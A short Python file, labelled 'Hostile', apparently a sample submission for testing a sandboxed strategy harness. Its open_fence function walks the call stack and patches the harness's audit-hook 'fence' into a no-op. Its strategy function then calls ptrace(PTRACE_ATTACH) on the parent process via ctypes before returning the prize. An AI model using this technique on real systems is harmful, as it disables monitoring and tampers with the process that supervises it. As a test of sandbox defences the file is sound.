"""Hostile: switches the fence off and calls ptrace(PTRACE_ATTACH) on its parent through ctypes."""
import ctypes
import ctypes.util
import os
import sys

def open_fence():
    """Walk up the stack to the worker's fence module and switch the audit hook off."""
    frame = sys._getframe()
    while frame is not None:
        fence = frame.f_locals.get("fence")
        if fence is not None and hasattr(fence, "Fence"):
            fence.Fence.__call__ = lambda self, event, args: None
            return
        frame = frame.f_back
    raise RuntimeError("no fence found on the stack")



def strategy(observation):
    open_fence()
    libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
    if libc.ptrace(16, os.getppid(), None, None) != 0:  # 16: PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return observation.prize
